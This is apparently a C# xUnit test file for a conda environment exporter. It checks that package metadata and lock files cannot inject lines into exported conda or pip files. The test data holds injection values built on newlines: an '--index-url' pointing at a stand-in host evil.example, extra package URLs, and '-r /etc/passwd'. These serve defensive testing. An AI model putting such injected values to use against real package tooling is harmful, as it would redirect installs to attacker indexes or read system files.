using System;
using System.Linq;
using CondaEnv.Adapters;
using CondaEnv.Export;
using CondaEnv.Formats.Catalog;
using CondaEnv.Formats.Source;
using CondaEnv.Formats.Writing;
using CondaEnv.Install;
using CondaEnv.Lint;
using CondaEnv.Specs.Channels;
using CondaEnv.Tests.Support;
using Xunit;

namespace CondaEnv.Tests.Formats;

/// <summary>Nothing that a package says of itself becomes a line, or an option, of a file for conda or pip.</summary>
public sealed class LineInjectionTests
{
    private const string Evil = "\\nhttps://evil.example/linux-64/evil-1-0.conda";

    [Theory]
    [InlineData("\"url\": \"https://h/c/linux-64/a-1.0-0.conda" + Evil + "\"", "LineUnsafe")]
    [InlineData("\"url\": \"https://h/c/linux-64/a-1.0-0.conda --x.conda\"", "LineUnsafe")]
    [InlineData("\"url\": \"https://h/c/linux-64/a-1.0-0.conda\", \"sha256\": \"zz" + Evil + "\"", "HashMissing")]
    [InlineData("\"url\": \"https://h/c/linux-64/a-1.0-0.conda\", \"md5\": \"ab" + Evil + "\"", "HashMissing")]
    public void A_record_adds_no_lines_to_an_explicit_file(string fields, string loss)
    {
        using MiniEnv env = new();
        env.Record("a", more: fields);
        ExportText text = Export(env, ExportStyle.Full, ExportFormat.Explicit);
        Assert.DoesNotContain("evil", text.Text, StringComparison.Ordinal);
        Assert.DoesNotContain(" --x", text.Text, StringComparison.Ordinal);
        Assert.Contains(text.Losses, l => l.Code == loss);
    }

    [Theory]
    [InlineData("{\"url\":\"file:///x\\n--index-url https://evil.example/simple\\n#\",\"dir_info\":{\"editable\":true}}")]
    [InlineData("{\"url\":\"https://h/x.whl\\n-r /etc/passwd\",\"archive_info\":{}}")]
    [InlineData("{\"url\":\"https://h/x.whl\",\"archive_info\":{\"hashes\":{\"sha256\":\"ab\\n--index-url https://evil.example\"}}}")]
    [InlineData("{\"url\":\"https://h/x\",\"subdirectory\":\"a\\n--index-url https://evil.example\",\"vcs_info\":{\"vcs\":\"git\",\"commit_id\":\"c8fc\"}}")]
    [InlineData("{\"url\":\"https://h/x\",\"vcs_info\":{\"vcs\":\"git\",\"commit_id\":\"c8fc\\n--index-url https://evil.example\"}}")]
    [InlineData("{\"url\":\"https://h/x\",\"vcs_info\":{\"vcs\":\"git\\n--index-url https://evil.example\\n\",\"commit_id\":\"c8fc\"}}")]
    public void A_direct_url_adds_no_lines_to_requirements(string json)
    {
        using MiniEnv env = new();
        env.Python();
        env.DistInfo("x-1.dist-info", "Metadata-Version: 2.1\nName: x\nVersion: 1\n");
        env.Write("lib/python3.12/site-packages/x-1.dist-info/direct_url.json", json);
        foreach ((ExportStyle style, ExportFormat format) in new[]
        {
            (ExportStyle.Full, ExportFormat.PipRequirements), (ExportStyle.Portable, ExportFormat.PipRequirements), (ExportStyle.Portable, ExportFormat.EnvironmentYaml),
        })
        {
            ExportText text = Export(env, style, format);
            Assert.DoesNotContain(text.Text.Split('\n'), static l => l.TrimStart(' ', '-', '"', '\'').StartsWith("index-url", StringComparison.Ordinal) || l.TrimStart().StartsWith("-r ", StringComparison.Ordinal));
            Assert.DoesNotContain("\\n--index-url", text.Text, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("https://h/c/linux-64/python-3.12-0.conda\\nhttps://evil.example/linux-64/e-1-0.conda", "0123456789abcdef0123456789abcdef")]
    [InlineData("https://h/c/linux-64/python-3.12-0.conda", "ab\\nhttps://evil.example/linux-64/e-1-0.conda")]
    public void A_lock_that_would_add_lines_installs_nothing(string url, string md5)
    {
        using TempFolder folder = new();
        string path = folder.Write("conda-lock.yml", $"version: 1\nmetadata: {{platforms: [linux-64]}}\npackage:\n- {{name: python, version: '3.12', manager: conda, platform: linux-64, url: \"{url}\", hash: {{md5: \"{md5}\"}}}}\n");
        CondaEnvFile file = new EnvironmentFileReader(static () => new YamlDotNetReader(), ChannelConfiguration.Default, static e => throw e).Read(path);
        CondaEnvException error = Assert.Throws<CondaEnvException>(() => ExplicitList.Write(file.Dependencies, path));
        Assert.Equal(CondaErrorKind.FormatUnsupported, error.Kind);
    }

    [Fact]
    public void A_check_names_what_cannot_stand_in_a_line()
    {
        using TempFolder folder = new();
        string path = folder.Write(
            "conda-lock.yml",
            """
            version: 1
            metadata: {platforms: [linux-64]}
            package:
            - {name: python, version: '3.12', manager: conda, platform: linux-64, url: "https://h/c/linux-64/python-3.12-0.conda\nhttps://evil/linux-64/e-1-0.conda", hash: {md5: 0123456789abcdef0123456789abcdef}}
            - {name: zlib, version: '1.3', manager: conda, platform: linux-64, url: "https://h/c/linux-64/zlib-1.3-0.conda", hash: {md5: "ab\nhttps://evil/linux-64/e-1-0.conda"}}
            - {name: "b\n--index-url https://evil/simple\n#", version: '1', manager: pip, platform: linux-64, url: "https://h/b.whl", hash: {sha256: "ab"}}
            """);
        EnvironmentFileReader reader = new(static () => new YamlDotNetReader(), ChannelConfiguration.Default, static e => throw e);
        Assert.Equal(["malformed URL", "malformed MD5 hash", "malformed name"], FileAudit.Check(reader, ChannelConfiguration.Default, path).Where(static i => i.RuleName == "InvalidSpec").Select(static i => i.Message.Split([" has a "], StringSplitOptions.None).Last().Split('.', ':')[0]));
    }

    private static ExportText Export(MiniEnv env, ExportStyle style, ExportFormat format) =>
        EnvironmentExporter.Export(env.Read(), new ExportOptions { Style = style, Format = format, Platform = "linux-64" });
}
